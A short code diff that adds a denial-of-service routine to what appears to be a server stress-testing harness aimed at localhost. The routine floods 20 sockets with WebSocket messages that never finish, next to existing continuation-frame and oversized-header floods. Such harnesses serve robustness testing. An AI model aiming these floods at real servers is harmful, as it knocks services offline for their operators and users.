@@ -79,6 +79,13 @@ async def continuations(target: Target) -> None:
     await frames(target, b"\x01" + MASK, b"\x00" + MASK)
 
 
+@attack("20 sockets: messages that never end")
+async def messages(target: Target) -> None:
+    frame = b"\x00\xff" + (65_536).to_bytes(8, "big") + bytes(4 + 65_536)
+    first = b"\x02" + frame[1:]
+    await asyncio.gather(*(flood(target, UPGRADE, frame, answered=first) for _ in range(20)))
+
+
 @attack("a header that grows")
 async def header(target: Target) -> None:
     await flood(target, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nA: ", b"a" * 60_000)
